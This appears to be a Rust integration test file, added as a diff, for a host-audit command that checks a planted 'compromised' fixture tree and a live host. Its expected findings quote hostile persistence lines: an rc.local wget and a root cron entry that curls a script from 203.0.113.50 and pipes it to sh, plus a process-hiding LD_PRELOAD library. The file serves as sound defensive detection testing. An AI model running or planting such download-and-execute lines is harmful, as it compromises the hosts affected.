@@ -1,0 +1,522 @@
+//! `flowmeter audit`, run as the real binary: every planted sign of the `compromised`
+//! fixture tree found with its id, severity and evidence line; nothing above low in the
+//! `clean` tree; the report's form and exit statuses; a live run; and, in test network
+//! namespaces (root needed), an exposed database port reported with its process and a
+//! `--watch` run that marks the process talking now.
+
+mod common;
+
+use std::{
+    io::{Read, Write},
+    net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream},
+    path::Path,
+    process::{Command, Output},
+    sync::{
+        Arc,
+        atomic::{AtomicBool, Ordering},
+    },
+    thread,
+    time::Duration,
+};
+
+use common::{
+    FLOWMETER, Flowmeter,
+    netns::{Family, Netns, VethPair, unique_name},
+    run_flowmeter,
+};
+use flowmeter::{
+    datapath::{FlowId, Protocol},
+    enrich::{
+        geo::{HomeCountries, Location},
+        sockets::ProcessInfo,
+        verdict::{FlowContext, Reason, Rules, Verdict},
+    },
+};
+use serde_json::Value;
+
+const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/audit");
+const EXIT_CLEAN: i32 = 0;
+const EXIT_FAILURE: i32 = 1;
+const EXIT_FOUND: i32 = 3;
+/// Longest a run inside a namespace may take (loading the eBPF programs included).
+const RUN_TIMEOUT: Duration = Duration::from_secs(60);
+
+fn fixture(name: &str) -> String {
+    format!("{FIXTURES}/{name}")
+}
+
+fn flowmeter(args: &[&str]) -> Output {
+    Command::new(FLOWMETER)
+        .args(args)
+        .output()
+        .unwrap_or_else(|e| panic!("running {FLOWMETER}: {e}"))
+}
+
+/// The one JSON object a `--json` run prints.
+fn report(stdout: &[u8]) -> Value {
+    let text = String::from_utf8_lossy(stdout);
+    serde_json::from_str(text.trim())
+        .unwrap_or_else(|e| panic!("not one JSON object ({e}): {text}"))
+}
+
+fn findings(report: &Value) -> &Vec<Value> {
+    report["findings"].as_array().expect("findings is an array")
+}
+
+/// The findings with this id, as (severity, evidence).
+fn with_id<'a>(report: &'a Value, id: &str) -> Vec<(&'a str, &'a str)> {
+    findings(report)
+        .iter()
+        .filter(|f| f["id"] == id)
+        .map(|f| {
+            (
+                f["severity"].as_str().unwrap(),
+                f["evidence"].as_str().unwrap(),
+            )
+        })
+        .collect()
+}
+
+const SEVERITIES: [&str; 5] = ["info", "low", "medium", "high", "critical"];
+
+fn rank(severity: &str) -> usize {
+    SEVERITIES
+        .iter()
+        .position(|s| *s == severity)
+        .unwrap_or_else(|| panic!("unknown severity {severity}"))
+}
+
+/// Every finding has the documented fields, of the documented types.
+fn assert_schema(report: &Value) {
+    assert_eq!(report["v"], 1, "{report}");
+    assert!(
+        report["root"].is_string() && report["live"].is_boolean(),
+        "{report}"
+    );
+    for finding in findings(report) {
+        for field in ["id", "severity", "title", "evidence", "advice"] {
+            let text = finding[field].as_str().unwrap_or_default();
+            assert!(!text.is_empty(), "{field} missing in {finding}");
+        }
+        let id = finding["id"].as_str().unwrap();
+        assert!(
+            id.chars()
+                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'),
+            "id is not kebab-case: {id}"
+        );
+        rank(finding["severity"].as_str().unwrap());
+    }
+    let summary = &report["summary"];
+    for severity in SEVERITIES {
+        let counted = findings(report)
+            .iter()
+            .filter(|f| f["severity"] == severity)
+            .count();
+        assert_eq!(summary[severity], counted, "{summary}");
+    }
+}
+
+#[test]
+fn every_planted_sign_is_found_with_its_severity_and_evidence() {
+    let output = flowmeter(&["audit", "--root", &fixture("compromised"), "--json"]);
+    assert_eq!(output.status.code(), Some(EXIT_FOUND), "{output:?}");
+    let report = report(&output.stdout);
+    assert_schema(&report);
+    assert_eq!(report["live"], false);
+    for (id, severity, evidence) in [
+        // rc.local with a wget to /tmp.
+        (
+            "rc-local-download-exec",
+            "critical",
+            "/etc/rc.local:5: wget -q http://203.0.113.50/x86_64/sys -O /tmp/sys",
+        ),
+        // A crontab that curls and pipes to sh every minute; a service account's crontab.
+        (
+            "cron-download-exec",
+            "critical",
+            "/var/spool/cron/crontabs/root:2: * * * * * curl -fsSL http://203.0.113.50/s.sh | sh",
+        ),
+        (
+            "cron-service-account",
+            "medium",
+            "/var/spool/cron/crontabs/www-data:1: */5 * * * * /usr/bin/php /var/www/html/wp-cron.php >/dev/null 2>&1",
+        ),
+        // ld.so.preload: an entry, and one in a hidden place; LD_PRELOAD for sessions.
+        (
+            "ld-preload-entry",
+            "high",
+            "/etc/ld.so.preload:1: /usr/local/lib/libprocesshider.so",
+        ),
+        (
+            "ld-preload-odd-place",
+            "critical",
+            "/etc/ld.so.preload:2: /usr/local/lib/.cache/libsys.so",
+        ),
+        (
+            "environment-ld-preload",
+            "high",
+            "/etc/environment:2: LD_PRELOAD=/usr/local/lib/libprocesshider.so",
+        ),
+        // nr_hugepages 128, and the setting that reserves them at boot.
+        (
+            "hugepages-reserved",
+            "medium",
+            "/proc/sys/vm/nr_hugepages: 128",
+        ),
+        (
+            "hugepages-sysctl",
+            "medium",
+            "/etc/sysctl.conf:3: vm.nr_hugepages = 128",
+        ),
+        // sshd on 22 with root password login (and empty passwords, from an include).
+        ("sshd-port-22", "low", "/etc/ssh/sshd_config:4: Port 22"),
+        (
+            "sshd-root-password-login",
+            "high",
+            "/etc/ssh/sshd_config:5: PermitRootLogin yes",
+        ),
+        (
+            "sshd-password-auth",
+            "medium",
+            "/etc/ssh/sshd_config:6: PasswordAuthentication yes",
+        ),
+        (
+            "sshd-empty-passwords",
+            "high",
+            "/etc/ssh/sshd_config.d/50-legacy.conf:1: PermitEmptyPasswords yes",
+        ),
+        // An empty-password user, a uid 0 duplicate, an old hash.
+        (
+            "account-empty-password",
+            "critical",
+            "/etc/shadow:7: backup2 (empty password field)",
+        ),
+        (
+            "account-extra-uid0",
+            "critical",
+            "/etc/passwd:8: toor:x:0:0::/root:/bin/bash",
+        ),
+        (
+            "account-weak-hash",
+            "medium",
+            "/etc/shadow:9: legacy (DES or MD5 hash)",
+        ),
+        // A systemd unit running from /dev/shm.
+        (
+            "systemd-temp-exec",
+            "high",
+            "/etc/systemd/system/dbus-helper.service:6: ExecStart=/dev/shm/.dbus/dbus-helper --daemon",
+        ),
+    ] {
+        assert_eq!(
+            with_id(&report, id),
+            [(severity, evidence)],
+            "{id}: all findings: {:#}",
+            report["findings"]
+        );
+    }
+    // Its mode depends on the checkout's umask.
+    let executable = with_id(&report, "rc-local-executable");
+    assert_eq!(executable.len(), 1, "{executable:?}");
+    let (severity, evidence) = executable[0];
+    assert_eq!(severity, "info");
+    assert!(
+        evidence.starts_with("/etc/rc.local (mode 07") && evidence.ends_with(", 3 commands)"),
+        "{evidence}"
+    );
+    assert_eq!(
+        findings(&report).len(),
+        17,
+        "no other finding: {:#}",
+        report["findings"]
+    );
+    // Worst first.
+    let ranks: Vec<usize> = findings(&report)
+        .iter()
+        .map(|f| rank(f["severity"].as_str().unwrap()))
+        .collect();
+    assert!(ranks.windows(2).all(|w| w[0] >= w[1]), "{ranks:?}");
+    assert_eq!(report["summary"]["exit_status"], EXIT_FOUND);
+    assert_eq!(report["summary"]["worst"], "critical");
+    let notes = report["notes"].to_string();
+    assert!(notes.contains("live-only checks skipped"), "{notes}");
+    // The runbook's remedies.
+    let advice = findings(&report)
+        .iter()
+        .map(|f| f["advice"].as_str().unwrap())
+        .collect::<Vec<_>>()
+        .join(" ");
+    for step in [
+        "Remove the entry",
+        "back up the data",
+        "reinstall",
+        "12-16 characters",
+        "remove unused users",
+        "move sshd off port 22",
+        "open only the ports the service needs",
+        "never expose databases",
+        "host protection with real-time alerts",
+    ] {
+        assert!(advice.contains(step), "no advice says {step:?}");
+    }
+}
+
+#[test]
+fn the_report_groups_by_severity_at_80_columns_and_ends_with_a_summary() {
+    let output = flowmeter(&["audit", "--root", &fixture("compromised")]);
+    assert_eq!(output.status.code(), Some(EXIT_FOUND), "{output:?}");
+    let text = String::from_utf8(output.stdout).expect("UTF-8");
+    for line in text.lines() {
+        assert!(
+            line.chars().count() <= 80,
+            "longer than 80 columns: {line:?}"
+        );
+        assert!(!line.contains('\x1b'), "no colour: {line:?}");
+    }
+    // Group headings: `HIGH (5)`.
+    let headings: Vec<&str> = text
+        .lines()
+        .filter(|line| {
+            line.split_once(" (").is_some_and(|(word, count)| {
+                word.chars().all(|c| c.is_ascii_uppercase())
+                    && count.trim_end_matches(')').parse::<usize>().is_ok()
+            })
+        })
+        .collect();
+    assert_eq!(
+        headings,
+        [
+            "CRITICAL (5)",
+            "HIGH (5)",
+            "MEDIUM (5)",
+            "LOW (1)",
+            "INFO (1)"
+        ],
+        "{text}"
+    );
+    let last = text.lines().last().unwrap();
+    assert_eq!(
+        last,
+        "Summary: 5 critical, 5 high, 5 medium, 1 low, 1 info: needs action (exit 3)"
+    );
+    assert!(
+        text.contains("[critical] rc-local-download-exec\n"),
+        "{text}"
+    );
+    assert!(text.contains("live-only checks skipped"), "{text}");
+}
+
+#[test]
+fn the_clean_tree_has_nothing_above_low() {
+    let clean = fixture("clean");
+    for json in [true, false] {
+        let mut args = vec!["audit", "--root", clean.as_str()];
+        if json {
+            args.push("--json");
+        }
+        let output = flowmeter(&args);
+        assert_eq!(output.status.code(), Some(EXIT_CLEAN), "{output:?}");
+        if json {
+            let report = report(&output.stdout);
+            assert_schema(&report);
+            for finding in findings(&report) {
+                assert!(
+                    rank(finding["severity"].as_str().unwrap()) <= rank("low"),
+                    "{finding}"
+                );
+            }
+            assert_eq!(report["summary"]["exit_status"], EXIT_CLEAN);
+        } else {
+            let text = String::from_utf8(output.stdout).unwrap();
+            assert!(text.ends_with("nothing above low (exit 0)\n"), "{text}");
+        }
+    }
+}
+
+#[test]
+fn a_missing_root_is_one_line_and_exit_status_1() {
+    let missing = Path::new(FIXTURES).join("no-such-tree");
+    let output = flowmeter(&["audit", "--root", missing.to_str().unwrap(), "--json"]);
+    assert_eq!(output.status.code(), Some(EXIT_FAILURE), "{output:?}");
+    assert!(output.stdout.is_empty(), "{output:?}");
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    let lines: Vec<&str> = stderr.lines().collect();
+    assert_eq!(lines.len(), 1, "{stderr}");
+    assert!(lines[0].starts_with("flowmeter: cannot audit "), "{stderr}");
+    assert!(lines[0].contains("--root"), "says what to do: {stderr}");
+
+    // --watch meters this host: not a tree on disk.
+    let output = flowmeter(&["audit", "--root", &fixture("clean"), "--watch", "1"]);
+    assert_eq!(output.status.code(), Some(EXIT_FAILURE), "{output:?}");
+    assert_eq!(String::from_utf8_lossy(&output.stderr).lines().count(), 1);
+}
+
+#[test]
+fn a_live_run_completes_with_valid_json() {
+    let output = flowmeter(&["audit", "--json"]);
+    let status = output.status.code();
+    assert!(
+        matches!(status, Some(EXIT_CLEAN | EXIT_FOUND)),
+        "{status:?}: {}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let report = report(&output.stdout);
+    assert_schema(&report);
+    assert_eq!(report["live"], true);
+    assert_eq!(report["summary"]["exit_status"], status.unwrap());
+    let notes = report["notes"].to_string();
+    assert!(!notes.contains("live-only checks skipped"), "{notes}");
+}
+
+#[test]
+fn the_compromised_trees_persistence_points_feed_the_verdicts() {
+    let persistence = flowmeter::audit::persistence(Path::new(&fixture("compromised")));
+    let points: Vec<(String, &str)> = persistence
+        .entries()
+        .map(|e| (e.point.display().to_string(), e.command.as_str()))
+        .collect();
+    assert_eq!(
+        points,
+        [
+            (
+                "/etc/rc.local".to_owned(),
+                "wget -q http://203.0.113.50/x86_64/sys -O /tmp/sys"
+            ),
+            (
+                "/var/spool/cron/crontabs/root".to_owned(),
+                "* * * * * curl -fsSL http://203.0.113.50/s.sh | sh"
+            ),
+            (
+                "/etc/systemd/system/dbus-helper.service".to_owned(),
+                "ExecStart=/dev/shm/.dbus/dbus-helper --daemon"
+            ),
+        ]
+    );
+    // A process the unit starts is judged suspicious, launched from there.
+    let helper = ProcessInfo {
+        pid: 4242,
+        comm: "dbus-helper".into(),
+        exe: Some("/dev/shm/.dbus/dbus-helper".into()),
+        exe_deleted: false,
+        uid: 0,
+        user: "root".into(),
+        cmdline: "/dev/shm/.dbus/dbus-helper --daemon".into(),
+    };
+    let home = HomeCountries::default();
+    let mut context = FlowContext::new(Location::Unknown, &home);
+    context.persistence = &persistence;
+    let flow = FlowId {
+        iface: Arc::from("eth0"),
+        proto: Protocol(6),
+        local_ip: Ipv4Addr::new(192, 0, 2, 1).into(),
+        local_port: 40000,
+        remote_ip: Ipv4Addr::new(198, 51, 100, 7).into(),
+        remote_port: 443,
+    };
+    let judgement = Rules::default().judge(&flow, Some(&helper), &context);
+    assert_eq!(judgement.verdict, Verdict::Suspicious);
+    assert!(
+        judgement.reasons.iter().any(|r| matches!(
+            r,
+            Reason::Persistence { point, .. } if point == Path::new("/etc/systemd/system/dbus-helper.service")
+        )),
+        "{:?}",
+        judgement.reasons
+    );
+    // An unreadable root gives nothing, not an error.
+    assert!(flowmeter::audit::persistence(Path::new("/no/such/tree")).is_empty());
+}
+
+/// A TCP listener on 0.0.0.0:6379 held by this test process, inside `netns`.
+fn listen_like_redis(netns: &Netns) -> TcpListener {
+    netns.run(|| TcpListener::bind((Ipv4Addr::UNSPECIFIED, 6379)).expect("bind 0.0.0.0:6379"))
+}
+
+/// The `socket-database-exposed` finding for 0.0.0.0:6379.
+fn exposed_redis(report: &Value) -> &Value {
+    findings(report)
+        .iter()
+        .find(|f| {
+            f["id"] == "socket-database-exposed"
+                && f["evidence"]
+                    .as_str()
+                    .unwrap_or_default()
+                    .contains("0.0.0.0:6379")
+        })
+        .unwrap_or_else(|| panic!("no exposed 6379: {:#}", report["findings"]))
+}
+
+#[test]
+fn a_database_port_open_to_all_is_reported_with_its_process() {
+    let netns = Netns::new(unique_name());
+    let _listener = listen_like_redis(&netns);
+    let finished = run_flowmeter(&netns, "audit --json", RUN_TIMEOUT);
+    assert_eq!(finished.status.code(), Some(EXIT_FOUND), "{finished:?}");
+    let report = report(finished.stdout.join("\n").as_bytes());
+    assert_schema(&report);
+    let finding = exposed_redis(&report);
+    assert_eq!(finding["severity"], "high", "{finding}");
+    assert_eq!(finding["process"]["pid"], std::process::id(), "{finding}");
+    let title = finding["title"].as_str().unwrap();
+    assert!(
+        title.starts_with("Redis (6379/tcp) listens on all addresses"),
+        "{title}"
+    );
+    assert!(
+        finding.get("traffic").is_none(),
+        "no --watch, no traffic: {finding}"
+    );
+}
+
+#[test]
+fn watch_marks_the_process_talking_now() {
+    let pair = VethPair::new(Family::V4);
+    let listener = listen_like_redis(&pair.a);
+    let server = SocketAddr::new(pair.a_ip, 6379);
+    let client = pair
+        .b
+        .run(|| TcpStream::connect_timeout(&server, Duration::from_secs(5)).expect("connect"));
+    let (mut accepted, _) = listener.accept().expect("accept");
+
+    // A little traffic each way for as long as flowmeter watches.
+    let stop = Arc::new(AtomicBool::new(false));
+    let talker = {
+        let stop = Arc::clone(&stop);
+        let mut client = client;
+        thread::spawn(move || {
+            let mut reply = [0u8; 64];
+            while !stop.load(Ordering::Relaxed) {
+                client.write_all(b"PING\r\n").expect("send");
+                accepted.read_exact(&mut reply[..6]).expect("receive");
+                accepted.write_all(b"+PONG\r\n").expect("reply");
+                client.read_exact(&mut reply[..7]).expect("read reply");
+                thread::sleep(Duration::from_millis(50));
+            }
+        })
+    };
+    let args = format!("audit --watch 2 --json --iface {}", pair.a_if);
+    let finished = Flowmeter::spawn(&pair.a, &args).wait(RUN_TIMEOUT);
+    stop.store(true, Ordering::Relaxed);
+    talker.join().expect("talker");
+    assert_eq!(finished.status.code(), Some(EXIT_FOUND), "{finished:?}");
+
+    let report = report(finished.stdout.join("\n").as_bytes());
+    assert_schema(&report);
+    assert_eq!(report["watched_s"], 2.0, "{report}");
+    let finding = exposed_redis(&report);
+    assert_eq!(finding["process"]["pid"], std::process::id(), "{finding}");
+    let traffic = &finding["traffic"];
+    let hosts: Vec<IpAddr> = traffic["remote_hosts"]
+        .as_array()
+        .unwrap_or_else(|| panic!("no traffic marked: {finding}"))
+        .iter()
+        .map(|h| h.as_str().unwrap().parse().unwrap())
+        .collect();
+    assert_eq!(hosts, [pair.b_ip], "{finding}");
+    assert_eq!(traffic["remote_host_count"], 1);
+    assert!(traffic["bytes"].as_u64().unwrap() > 0, "{finding}");
+    // Private addresses have no country.
+    assert_eq!(traffic["countries"], serde_json::json!([]));
+    // At the top.
+    assert_eq!(&findings(&report)[0], finding, "{:#}", report["findings"]);
+}
